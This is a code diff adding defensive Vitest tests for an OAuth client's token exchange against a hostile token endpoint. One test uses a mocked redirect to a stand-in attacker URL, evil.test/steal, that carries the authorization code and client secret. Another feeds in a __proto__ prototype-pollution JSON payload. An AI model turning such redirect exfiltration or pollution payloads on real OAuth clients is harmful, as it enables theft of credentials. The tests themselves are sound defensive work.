@@ -1,3 +1,4 @@
+import { inspect } from 'node:util';
 import { HttpResponse, http } from 'msw';
 import { setupServer } from 'msw/node';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
@@ -162,4 +163,71 @@ describe('exchangeCode', () => {
     expect((await injected.exchangeCode({ code: 'c' })).scopes).toEqual(['boards:write']);
     expect(calls).toEqual(['https://auth.example.com/base/oauth2/token']);
   });
+});
+
+describe('exchangeCode against a hostile token endpoint', () => {
+  const CODE = 'code-0123456789abcdef';
+
+  function inspectAll(value: unknown): string {
+    return `${inspect(value, { depth: Number.POSITIVE_INFINITY, showHidden: true })}${JSON.stringify(value)}${String(value)}`;
+  }
+
+  it.each([302, 307, 308])('refuses a %i: unexpected_redirect naming status and Location, and posts nothing there', async (code) => {
+    const seen: string[] = [];
+    server.use(
+      http.post(TOKEN_URL, () => new HttpResponse(null, { status: code, headers: { location: `https://evil.test/steal?c=${CODE}&s=${encodeURIComponent(SECRET)}` } })),
+      http.all('https://evil.test/steal', async ({ request }) => {
+        seen.push(await request.text());
+        return HttpResponse.json({ access_token: 'forged', token_type: 'Bearer', scope: 'boards:read' });
+      }),
+    );
+    const error = await rejection(client.exchangeCode({ code: CODE }));
+    expect(error).toMatchObject({ code: 'unexpected_redirect', status: code });
+    expect(error.description).toBe(`The token endpoint answered HTTP ${code} to https://evil.test/steal?c=[redacted]&s=[redacted]; redirects are not followed`);
+    expect(seen).toEqual([]);
+    expect(inspectAll(error)).not.toContain(CODE);
+  });
+
+  it('keeps neither the secret nor the code in a network failure cause chain', async () => {
+    const leaky = new OAuthClient({
+      clientId: 'app-1',
+      clientSecret: SECRET,
+      authUrl: 'https://auth.example.com',
+      redirectUri: 'https://app.example.com/cb',
+      fetch: async (_input, init) => {
+        throw new TypeError(`fetch failed: ${String(init?.body)}`, { cause: new Error(`body was ${String(init?.body)}`) });
+      },
+    });
+    const error = await rejection(leaky.exchangeCode({ code: CODE }));
+    expect(error.code).toBe('network_error');
+    const text = inspectAll(error);
+    for (const secret of [SECRET, encodeURIComponent(SECRET), new URLSearchParams({ s: SECRET }).toString().slice(2), CODE]) {
+      expect(text).not.toContain(secret);
+    }
+    expect((error.cause as Error).message).toContain('[redacted]');
+  });
+
+  it('refuses an answer larger than 64 KiB without buffering it', async () => {
+    answer({ access_token: 'x', token_type: 'Bearer', scope: 'boards:read', padding: 'x'.repeat(70_000) });
+    const error = await rejection(client.exchangeCode({ code: CODE }));
+    expect(error).toMatchObject({ code: 'invalid_response', status: 200 });
+    expect(error.description).toMatch(/larger than 65536 bytes/);
+  });
+
+  it('reads the token fields as own properties only', async () => {
+    answer('{"__proto__":{"access_token":"inherited","token_type":"Bearer","scope":"boards:read"}}', {
+      headers: { 'content-type': 'application/json' },
+    });
+    const error = await rejection(client.exchangeCode({ code: CODE }));
+    expect(error.code).toBe('invalid_response');
+  });
+
+  it.each([['a NUL byte', 'tok\u0000en'], ['a non-ASCII letter', 'tokén'], ['a DEL', 'tok\u007fen']])(
+    'rejects an access_token with %s (it could never be sent as a Bearer header)',
+    async (_label, accessToken) => {
+      answer({ access_token: accessToken, token_type: 'Bearer', scope: 'boards:read' });
+      const error = await rejection(client.exchangeCode({ code: CODE }));
+      expect(error.code).toBe('invalid_response');
+    },
+  );
 });
